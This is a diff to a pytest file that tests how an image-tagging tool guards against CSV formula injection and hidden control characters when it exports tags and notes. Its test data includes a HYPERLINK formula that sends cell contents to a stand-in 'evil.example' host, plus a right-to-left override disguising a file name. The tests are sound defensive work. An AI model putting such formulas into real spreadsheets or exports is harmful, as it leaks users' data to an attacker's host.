@@ -2,6 +2,7 @@
 
 import csv
 import io
+import re
 import subprocess
 import sys
 from pathlib import Path
@@ -9,7 +10,15 @@ from pathlib import Path
 import pytest
 
 from training.runs.layout import ArtifactError
-from training.runs.tags import SUGGESTED_TAGS, TAGS_FILE, TagError, TagStore, normalise_tag
+from training.runs.tags import (
+    SUGGESTED_TAGS,
+    TAGS_FILE,
+    ImageMark,
+    TagError,
+    TagStore,
+    marks_csv,
+    normalise_tag,
+)
 
 REPO = Path(__file__).resolve().parent.parent
 
@@ -69,6 +78,63 @@ def test_version_changes_with_every_write_and_csv_lists_every_mark(tmp_path):
     assert list(rows[0]) == ["image_id", "city", "stem", "tags", "note", "updated"]
     assert [(r["image_id"], r["city"], r["tags"]) for r in rows] == [("7", "bonn", ""), ("", "aachen", "border; glare")]
     assert rows[0]["note"] == 'says "hi", twice\non two lines'
+
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def _read_back(cell: str) -> str:
+    """A CSV cell as ``marks_csv`` documents reading it: one leading ``'`` dropped."""
+    return cell[1:] if cell.startswith("'") else cell
+
+
+def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote_and_read_back(tmp_path):
+    texts = [HYPERLINK, "+1+1", "-2", "@SUM(A1)", "\tpadded", "\rcarriage", "'quoted already", "plain = fine"]
+    marks = [ImageMark("aachen", f"a_{n}", (text.lower(),), text, "2024-01-02T03:04:05Z")  # as old files may hold
+             for n, text in enumerate(texts)]
+    marks.append(ImageMark("=city", "+stem", (), "", "2024-01-02T03:04:05Z"))
+    rows = list(csv.DictReader(io.StringIO(marks_csv(marks, {("aachen", "a_0"): 5}))))
+    assert rows[0]["image_id"] == "5" and rows[0]["note"] == "'" + HYPERLINK
+    for row in rows:
+        for cell in (row["city"], row["stem"], row["tags"], row["note"]):
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    back = {_read_back(row["stem"]): row for row in rows}  # the image with an id first, then by city
+    assert [_read_back(back[f"a_{n}"]["note"]) for n in range(len(texts))] == texts
+    assert [_read_back(back[f"a_{n}"]["tags"]) for n in range(len(texts))] == [text.lower() for text in texts]
+    assert _read_back(back["+stem"]["city"]) == "=city" and rows[0]["updated"] == "2024-01-02T03:04:05Z"
+    # the command line writes the same CSV
+    store = TagStore(tmp_path / "artifacts")
+    store.add_tag("aachen", "a_1", '=HYPERLINK("http://evil.example","x")')
+    store.set_note("aachen", "a_1", HYPERLINK)
+    out = tmp_path / "tags.csv"
+    assert _tags_cli(["tags", "export", "--artifacts", str(tmp_path / "artifacts"), "--out", str(out),
+                      "--data-root", str(tmp_path / "missing")]) == 0
+    [row] = csv.DictReader(io.StringIO(out.read_text()))
+    assert (row["tags"], row["note"]) == ('\'=hyperlink("http://evil.example","x")', "'" + HYPERLINK)
+
+
+@pytest.mark.parametrize("text, named", [
+    ("\u202etxt.exe", "U+202E RIGHT-TO-LEFT OVERRIDE"), ("nul\x00here", "U+0000"), ("zero\u200bwidth", "U+200B"),
+    ("isolate\u2066x", "U+2066"), ("bell\x07", "U+0007"), ("escape\x1b[31m", "U+001B")])
+def test_control_and_format_characters_are_refused_by_name(tmp_path, text, named):
+    tags = TagStore(tmp_path)
+    for write in (lambda: tags.add_tag("aachen", "a_1", text), lambda: tags.set_note("aachen", "a_1", text),
+                  lambda: tags.add_tag("aachen", text, "border")):
+        with pytest.raises(TagError, match=re.escape(named)):
+            write()
+    with pytest.raises(TagError, match=re.escape(named)):
+        normalise_tag(text)
+    assert tags.marks() == {} and not (tmp_path / TAGS_FILE).exists()
+
+
+def test_a_note_keeps_its_lines_and_tabs(tmp_path):
+    tags = TagStore(tmp_path)
+    assert tags.set_note("aachen", "a_1", "first line\r\n\tsecond line\rthird").note == (
+        "first line\n\tsecond line\nthird")
+    assert tags.add_tag("aachen", "a_1", "two\twords\u2028here").tags == ("two words here",)  # blanks
+    with pytest.raises(TagError, match="U[+]2028 LINE SEPARATOR"):
+        tags.set_note("aachen", "a_1", "not\u2028a line")
 
 
 WRITER = """
